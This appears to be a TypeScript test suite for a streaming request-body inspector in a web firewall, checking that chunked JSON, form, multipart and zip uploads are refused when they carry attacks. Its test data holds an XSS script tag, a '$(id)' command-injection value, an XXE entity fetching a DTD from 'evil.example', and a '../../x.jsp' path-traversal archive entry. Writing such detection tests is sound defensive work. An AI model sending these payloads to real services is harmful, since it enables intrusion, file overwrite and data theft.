import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { describe, test } from 'node:test'
import { deflateRawSync } from 'node:zlib'
import type { Refusal } from '@postern/core'
import { restReader } from '../src/body/rest-reader.ts'
import { DEFAULT_BOUNDS } from '../src/bounds/bounds.ts'
import { ownRuleSet } from '../src/inspect.ts'
import { type RestSlices, RestWatch } from '../src/inspector/rest-watch.ts'

const FORM = 'application/x-www-form-urlencoded'
const JSON_TYPE = 'application/json'
const MULTIPART = 'multipart/form-data; boundary=bb'

function part(disposition: string, content: string): string {
  return `--bb\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${content}\r\n`
}

/** How many bytes behind the start had gone by when the rest was refused; undefined: all of it passed. */
async function cutAt(
  type: string,
  body: string | Buffer,
  limit: number,
  pieces: number,
): Promise<number | undefined> {
  const bytes = Buffer.from(body)
  const watch = restWatch(bytes.subarray(0, limit), type)
  for (let start = limit; start < bytes.length; start += pieces) {
    if ((await watch.take(bytes.subarray(start, start + pieces))) !== undefined) return start + pieces - limit
  }
  return undefined
}

/** A slice's milliseconds pass with each look at the clock, so that every slice is the shortest. */
function shortSlices(): RestSlices & { readonly turns: () => number } {
  let time = 0
  let turns = 0
  return {
    milliseconds: 4,
    now: () => (time += 4),
    cpu: () => 0,
    turn: () => {
      turns++
      return Promise.resolve()
    },
    turns: () => turns,
  }
}

const WHOLE: RestSlices = { milliseconds: 1_000, now: () => 0, cpu: () => 0, turn: () => Promise.resolve() }

/** @param cpu milliseconds that may be taken besides what is for each byte */
function restWatch(
  start: Buffer,
  type: string,
  slices = WHOLE,
  found: string[] = [],
  cpu = DEFAULT_BOUNDS.cpu,
): RestWatch {
  const reader = restReader(start, type, 200)
  assert.ok(reader !== undefined)
  return new RestWatch({
    reader,
    slices,
    inspection: {
      rules: ownRuleSet,
      level: 1,
      bounds: { ...DEFAULT_BOUNDS, cpu },
      except: [],
      types: undefined,
      ownPort: undefined,
      cpu: undefined,
      method: 'POST',
      route: () => 'POST /',
    },
    judge: inspection => {
      found.push(...inspection.matches.map(match => `${match.rule} ${match.location}`))
      return inspection.verdict === 'pass' ? undefined : REFUSAL
    },
  })
}

const REFUSAL: Refusal = {
  effect: 'deny',
  guard: 'inspect',
  status: 403,
  reasons: [{ rule: 'inspect/test', message: 'No.' }],
}
const PADDING = 'Oak chair, set of two. '.repeat(30)
const ATTACK = '<script>alert(1)</script>'

const BODIES: Readonly<Record<string, readonly [type: string, make: (text: string) => string]>> = {
  JSON: [
    JSON_TYPE,
    text => JSON.stringify({ items: [PADDING, PADDING], note: text, z: [1, { a: PADDING }] }),
  ],
  'a form': [FORM, text => `a=${encodeURIComponent(PADDING)}&note=${encodeURIComponent(text)}&z=1`],
  text: ['text/plain', text => `${PADDING}\n${text}\n${PADDING}`],
  'a field behind a file': [
    MULTIPART,
    text =>
      `${part('name="f"; filename="a.png"', PADDING)}${part('name="note"', text)}${part('name="g"; filename="b.png"', PADDING)}--bb--\r\n`,
  ],
  'JSON lines': [
    'application/x-ndjson',
    text => `{"a":"${PADDING}"}\n${JSON.stringify({ note: text })}\n{"b":1}\n`,
  ],
}

describe('the rest of a body', () => {
  for (const [what, [type, make]] of Object.entries(BODIES)) {
    test(`${what}: an attack is cut off with the piece that completes it, however the pieces fall`, async () => {
      const body = make(ATTACK)
      const at = body.indexOf(type === FORM ? encodeURIComponent('</script>') : '</script>')
      for (const pieces of [1, 7, 64, 100_000]) {
        const passed = await cutAt(type, body, 400, pieces)
        assert.ok(passed !== undefined, `pieces of ${pieces}`)
        assert.ok(passed - pieces <= at + 24 - 400, `pieces of ${pieces}: ${passed}`)
      }
    })

    test(`${what}: honest values pass`, async () => {
      const body = make("it's O'Brien & Sons; 5 < 6 (or more)")
      for (const pieces of [7, 1_000]) assert.equal(await cutAt(type, body, 400, pieces), undefined)
    })
  }

  test('files in a multipart body may hold what they like', async () => {
    const body = `${part('name="f"; filename="notes.txt"', PADDING + ATTACK + PADDING)}--bb--\r\n`
    for (const pieces of [7, 1_000]) assert.equal(await cutAt(MULTIPART, body, 500, pieces), undefined)
  })

  test('a file in base64 inside JSON passes', async () => {
    let state = 7
    const bytes = Buffer.alloc(200_000)
    for (let i = 0; i < bytes.length; i++) {
      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0
      bytes[i] = state >>> 16
    }
    const body = JSON.stringify({ name: 'a.bin', data: bytes.toString('base64') })
    for (const pieces of [1_460, 65_536]) assert.equal(await cutAt(JSON_TYPE, body, 2_000, pieces), undefined)
  })

  test('the name of a value goes on with it', async () => {
    const body = (name: string): string => JSON.stringify({ a: PADDING, [name]: '$(id)' })
    assert.ok((await cutAt(JSON_TYPE, body('id'), 400, 50)) !== undefined)
    assert.equal(await cutAt(JSON_TYPE, body('password'), 400, 50), undefined)
  })

  test('bytes that are not text are not read', () => {
    assert.equal(
      restReader(Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 1, 2, 3]), 'application/x-thing', 200),
      undefined,
    )
  })

  test('bytes that are not text are read while the document that they begin goes on', () => {
    const reader = (start: string): unknown => restReader(Buffer.from(start), 'application/x-thing', 200)
    const controls = '\0'.repeat(4_000)
    assert.ok(reader(`{"note":"${controls}`) !== undefined)
    assert.ok(reader(`<a b="${controls}`) !== undefined)
    assert.equal(reader(`{"note":1}${controls}`), undefined)
  })
})

describe('the rest of a body in slices', () => {
  const long = `"note":${JSON.stringify("it's O'Brien & Sons; 5 < 6 (or more)\n".repeat(3_000))}}`

  test('a piece that fills a slice is answered later, and others are served between two slices', async () => {
    const slices = shortSlices()
    const watch = restWatch(Buffer.from('{"a":"x",'), JSON_TYPE, slices)
    const answer = watch.take(Buffer.from(long))
    assert.ok(answer instanceof Promise)
    assert.equal(slices.turns(), 1)
    assert.equal(await answer, undefined)
    assert.ok(slices.turns() > 5, `${slices.turns()} turns`)
  })

  test('what fills none is answered at once', () => {
    const watch = restWatch(Buffer.from('{"a":"x",'), JSON_TYPE, shortSlices())
    assert.equal(watch.take(Buffer.from('"b":"Ann & Bob",')), undefined)
    assert.equal(watch.take(Buffer.from(`"note":"${ATTACK}"`)), REFUSAL)
  })

  test('finds the same as in one go, at the same places', async () => {
    for (const [type, make] of Object.values(BODIES)) {
      const body = Buffer.from(make(`${PADDING.repeat(40)}${ATTACK}${PADDING.repeat(100)}`))
      const [whole, sliced]: [string[], string[]] = [[], []]
      const inOne = await restWatch(body.subarray(0, 400), type, WHOLE, whole).take(body.subarray(400))
      const inMany = await restWatch(body.subarray(0, 400), type, shortSlices(), sliced).take(
        body.subarray(400),
      )
      assert.equal(inOne, REFUSAL)
      assert.equal(inMany, REFUSAL)
      assert.deepEqual(sliced, whole)
    }
  })

  /** The clock of the CPU of a machine that is busy with other things besides. */
  function busy(): RestSlices {
    let cpu = 0
    return { ...shortSlices(), cpu: () => (cpu += 1_000) }
  }

  /** Encoded signs that differ, each of which is read in several ways: 90 units a byte. */
  const dense = `"l":${JSON.stringify(
    Array.from({ length: 200 }, (_, i) =>
      Array.from(
        { length: 9 },
        (_, j) => `%2${j}${i}%25${j} &#x${(64 + ((i * j) % 60)).toString(16)}; \\x4${j} `,
      ).join(''),
    ),
  )}}`

  test('ordinary text passes however busy the machine is', async () => {
    for (const [type, start, rest] of [
      [JSON_TYPE, '{"a":"x",', long],
      ['application/octet-stream', 'A text.\n', "it's O'Brien & Sons; 5 < 6 (or more)\n".repeat(6_000)],
      [FORM, 'a=1', `&note=${encodeURIComponent(PADDING.repeat(100))}`],
    ] as const)
      assert.equal(
        await restWatch(Buffer.from(start), type, busy(), [], 0).take(Buffer.from(rest)),
        undefined,
      )
  })

  test('what costs more than has gone by allows is over its budget', async () => {
    const found: string[] = []
    const watch = restWatch(Buffer.from('{"a":"x",'), JSON_TYPE, busy(), found, 0)
    assert.equal(await watch.take(Buffer.from(dense)), REFUSAL)
    assert.match(found.join(), /^bounds\/effort body\.l\.\d+$/)
  })

  test('the time in which rules are compiled is not held against what goes by first, up to a sum', async () => {
    const startUp = { left: 100 }
    const slices: RestSlices = { ...busy(), startUp }
    const answers: (Refusal | undefined)[] = []
    for (let watches = 0; watches < 50 && answers.at(-1) === undefined; watches++)
      answers.push(
        await restWatch(Buffer.from('{"a":"x",'), JSON_TYPE, slices, [], 0).take(Buffer.from(dense)),
      )
    assert.equal(answers[0], undefined)
    assert.equal(answers.at(-1), REFUSAL)
    assert.equal(startUp.left, 0)
  })
})

describe('an archive that goes by', () => {
  const entry = (name: string, content: Buffer): Buffer => {
    const head = Buffer.alloc(30)
    head.write('PK\u0003\u0004', 'latin1')
    head.writeUInt16LE(8, 8)
    head.writeUInt16LE(name.length, 26)
    return Buffer.concat([head, Buffer.from(name), deflateRawSync(content)])
  }
  const picture = entry('word/media/image1.jpeg', randomBytes(200_000))
  const end = Buffer.from(`PK\u0005\u0006${'\0'.repeat(18)}`, 'latin1')
  const types = (prolog: string): Buffer =>
    entry('[Content_Types].xml', Buffer.from(`<?xml version="1.0"?>${prolog}<Types>${PADDING}</Types>`))
  const upload = (archive: Buffer): Buffer =>
    Buffer.concat([
      Buffer.from('--bb\r\nContent-Disposition: form-data; name="f"; filename="a.docx"\r\n\r\n'),
      archive,
      Buffer.from('\r\n--bb--\r\n'),
    ])
  const XXE = '<!DOCTYPE a [<!ENTITY % b SYSTEM "https://evil.example/x.dtd">%b;]>'
  const honest = Buffer.concat([picture, types(''), entry('word/document.xml', Buffer.from('<a/>')), end])

  test('is read entry by entry, however the pieces fall', async () => {
    for (const late of [types(XXE), entry('../../x.jsp', Buffer.from('x'))]) {
      const archive = Buffer.concat([picture, late, entry('b.txt', Buffer.from(PADDING)), picture, end])
      for (const pieces of [97, 1_400, 65_536])
        for (const [type, body] of [
          [MULTIPART, upload(archive)],
          ['application/zip', archive],
        ] as const)
          assert.ok((await cutAt(type, body, 50_000, pieces)) !== undefined, `${type} ${pieces}`)
    }
  })

  test('is taken for one with the first of its bytes', async () => {
    const body = upload(Buffer.concat([picture, types(XXE), end]))
    const start = body.indexOf('PK')
    for (const limit of [start, start + 1, start + 3])
      assert.ok((await cutAt(MULTIPART, body, limit, 65_536)) !== undefined, String(limit - start))
  })

  test('and other files, pass where they are honest', async () => {
    for (const pieces of [97, 65_536]) {
      assert.equal(await cutAt(MULTIPART, upload(honest), 50_000, pieces), undefined)
      assert.equal(await cutAt('application/zip', honest, 50_000, pieces), undefined)
    }
    const other = Buffer.concat([Buffer.from('\u0089PNG', 'latin1'), types(XXE)])
    const start = upload(other).indexOf('\u0089PNG', 'latin1')
    for (const limit of [start, start + 1, start + 4, start + 20])
      assert.equal(await cutAt(MULTIPART, upload(other), limit, 97), undefined, String(limit - start))
  })
})
